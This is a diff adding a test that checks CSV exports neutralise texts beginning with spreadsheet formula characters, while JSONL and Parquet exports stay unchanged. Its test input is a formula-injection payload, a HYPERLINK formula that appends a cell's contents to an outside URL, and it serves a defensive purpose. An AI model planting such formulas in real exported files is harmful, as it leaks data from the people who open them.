@@ -50,6 +50,18 @@ def test_csv_gives_back_the_texts_that_were_kept() -> None:
     assert (row["question"], row["answer"]) == (exchange(1).question, exchange(1).answer)
 
 
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_text_is_a_formula_to_a_spreadsheet(first: str) -> None:
+    """What somebody asks is not computed on the machine of whoever opens the file."""
+    said = f'{first}HYPERLINK("https://example.org?"&A1)'
+    asked = exchange(1)._replace(question=said, answer=said, cost=-1.0)
+    text = io.StringIO(exported("csv", asked).read().decode(), newline="")
+    (row,) = csv.DictReader(text)
+    assert (row["question"], row["answer"], row["cost"]) == (f"'{said}", f"'{said}", "-1.0")
+    assert json.loads(exported("jsonl", asked).read())["question"] == said
+    assert pq.read_table(exported("parquet", asked)).column("question").to_pylist() == [said]
+
+
 def test_parquet_gives_back_what_was_kept_with_its_types() -> None:
     """Numbers are numbers, and moments are moments in UTC."""
     kept = [exchange(1), exchange(2, None)]
